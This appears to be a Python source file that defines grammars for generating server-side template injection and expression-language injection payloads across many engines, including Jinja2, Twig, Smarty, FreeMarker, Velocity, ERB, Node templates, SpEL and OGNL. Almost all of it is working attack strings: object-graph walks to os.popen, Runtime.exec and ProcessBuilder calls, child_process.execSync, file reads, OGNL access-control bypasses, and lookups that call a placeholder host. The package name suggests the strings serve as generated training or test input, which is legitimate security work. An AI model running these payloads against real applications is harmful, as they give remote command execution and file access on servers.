"""Template and expression languages: arithmetic probes, object walks, and what each engine needs to run code."""

from portcullis_train.attack.expand import Grammar

TABLES = {
    "math": ["7*7", "«num»*«num»", "«n»+«n»", "7*'7'", "«num»-«n»", "191*7", "«num»/1"],
    "obj": ["config", "self", "request", "settings", "app", "session", "g", "this", "self.__dict__", "config.items()", "request.application", "settings.SECRET_KEY", "_self", "dump(app)", "lipsum", "cycler", "joiner", "namespace"],
    "walk": ["''.__class__.__mro__[«n»].__subclasses__()", "[].__class__.__base__.__subclasses__()[«num»]", "request.application.__globals__.__builtins__.__import__('os').popen('«cmd»').read()",
             "lipsum.__globals__['os'].popen('«cmd»').read()", "cycler.__init__.__globals__.os.popen('«cmd»').read()", "config.__class__.__init__.__globals__['os'].popen('«cmd»').read()",
             "self._TemplateReference__context.joiner.__init__.__globals__.os.popen('«cmd»').read()", "get_flashed_messages.__globals__.__builtins__.open('«file»').read()",
             "().__class__.__bases__[0].__subclasses__()[«num»]('«cmd»',shell=True,stdout=-1).communicate()", "url_for.__globals__", "(request|attr('application'))|attr('\\x5f\\x5fglobals\\x5f\\x5f')",
             "joiner.__init__.__globals__.os.system('«cmd»')", "''|attr('__class__')|attr('mro')"],
    "spel": ["T(java.lang.Runtime).getRuntime().exec('«cmd»')", "new java.lang.ProcessBuilder('«cmd»').start()", "T(java.lang.System).getenv()", "new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('«cmd»').getInputStream()).next()",
             "#this.getClass().forName('java.lang.Runtime')", "''.class.forName('java.lang.Runtime').getMethods()[«n»].invoke(null,'«cmd»')", "applicationScope", "pageContext.request.getSession()", "T(org.springframework.util.StreamUtils)",
             "@java.lang.Runtime@getRuntime().exec('«cmd»')", "@java.lang.System@getProperty('user.dir')", "(#a=@java.lang.Runtime@getRuntime()).exec('«cmd»')", "#_memberAccess['allowStaticMethodAccess']=true", "#application", "request.getClass().getClassLoader()",
             "''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('«num»')", "(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)", "#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']"],
}

GRAMMARS = [
    Grammar("ssti", [
        "{{«math»}}", "${«math»}", "<%= «math» %>", "#{«math»}", "{{«obj»}}", "{{ «obj» }}", "{{«walk»}}", "{{ «walk» }}", "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "{%«?-» if «walk» %}«word»{% endif %}",
        "{% import os %}{{os.popen('«cmd»').read()}}", "{% set «word»=«walk» %}{{«word»}}", "{{'«word»'.toUpperCase()}}", "{{ '«word»' | «upper¦join¦reverse¦length» }}", "${«obj»}", "{{_self.env.registerUndefinedFilterCallback('«system¦exec»')}}{{_self.env.getFilter('«cmd»')}}",
        "{{['«cmd»']|«filter¦map¦sort»('«system¦passthru¦exec»')}}", "{{app.request.server.all|join(',')}}", "{php}echo `«cmd»`;{/php}", "{system('«cmd»')}", "{$smarty.version}", "{if system('«cmd»')}{/if}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"«cmd»\")}",
        "${\"freemarker.template.utility.Execute\"?new()(\"«cmd»\")}", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('«cmd»')", "#set($«word»=«math»)$«word»", "<%= system('«cmd»') %>", "<%= `«cmd»` %>", "<%= File.open('«file»').read %>", "<%= Dir.entries('/') %>",
        "{{#with \"s\" as |string|}}{{#with (string.sub.apply 0 codelist)}}{{/with}}{{/with}}", "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('«cmd»')}}", "#{global.process.mainModule.require('child_process').execSync('«cmd»')}", "= global.process.mainModule.require('child_process')",
        "@(«math»)", "@{ «word»: «math» }", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c «wincmd»\")", "${{«math»}}", "*{«math»}", "[[${«math»}]]", "{{=«math»}}", "{@«math»}", "~{«math»}", "<%«math»%>", "${self.module.cache.util.os.system('«cmd»')}", "<% import os %>${os.popen('«cmd»').read()}",
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('«cmd»')\")()}}", "{% debug %}", "{{ request['application']['__globals__'] }}", "{{.System \"«word»\"}}", "{{ printf \"%s\" . }}", "{% include '«file»' %}", "{{ source('«file»') }}", "{{ include('«file»') }}", "{{dump(app)}}", "${T(java.lang.Runtime).getRuntime().exec('«cmd»')}", "{{7*'7'}}"], TABLES),
    Grammar("expression-language", [
        "${«spel»}", "#{«spel»}", "%{«spel»}", "%{(«spel»)}", "*{«spel»}", "__${«spel»}__::.x", "%{#a=«spel»,#b=#a.«word»}", "${#«word»=«spel»}", "redirect:${«spel»}", "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='«cmd»').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}",
        "«spel»", "('«word»')(('#_memberAccess.allowStaticMethodAccess\\u003dtrue')(«word»))", "${@java.lang.Runtime@getRuntime().exec(\"«cmd»\")}", "class.module.classLoader.«word».pattern=%{«word»}i", "${pageContext.servletContext.getResource(\"\")}", "#{facesContext.externalContext.redirect(\"http://«host»\")}",
        "${script:javascript:java.lang.Runtime.getRuntime().exec('«cmd»')}", "${url:UTF-8:http://«host»/«word»}", "${dns:address|«host»}", "${sys:user.name}${env:«word»}", "${groovy.lang.GroovyShell.newInstance().evaluate('\"«cmd»\".execute()')}", "${#rt=@java.lang.Runtime@getRuntime(),#rt.exec(\"«cmd»\")}"], TABLES),
]
